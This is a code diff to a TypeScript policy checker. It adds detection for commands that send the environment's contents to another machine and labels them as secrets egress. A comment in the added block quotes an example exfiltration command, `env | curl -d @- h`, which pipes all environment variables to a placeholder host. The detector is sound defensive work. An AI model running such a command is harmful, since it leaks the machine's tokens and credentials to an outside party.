@@ -154,14 +154,25 @@ export function sentSecretFiles(items: readonly JudgedEffect[], policy: Compiled
   const out: JudgedEffect[] = [];
   for (const item of items) {
     const via = item.effect.via;
-    if (via?.sent !== true || item.effect.kind !== "path" || !item.rule?.startsWith("paths.deny_read "))
-      continue;
+    if (via === undefined) continue;
     const carrier = items.find(
       (i) => i.effect.kind === "egress" && i.effect.via?.command === via.command,
     )?.effect;
     const d = carrier?.destination;
     const where = d === undefined ? "another machine" : describeDestination(d);
     const verdict = policy.egress.secrets;
+    // The environment printed into a send (`env | curl -d @- h`): it holds the session's tokens.
+    if (via.carries !== undefined && item.effect.kind === "command") {
+      out.push({
+        effect: carrier ?? item.effect,
+        verdict,
+        rule: "egress.secrets environment",
+        reason: `${via.command}: ${via.does}, which holds this machine's credentials, to ${where}${verdict === "allow" ? "; egress.secrets is allow" : ""}`,
+      });
+      continue;
+    }
+    if (via.sent !== true || item.effect.kind !== "path" || !item.rule?.startsWith("paths.deny_read "))
+      continue;
     out.push({
       effect: carrier ?? item.effect,
       verdict,
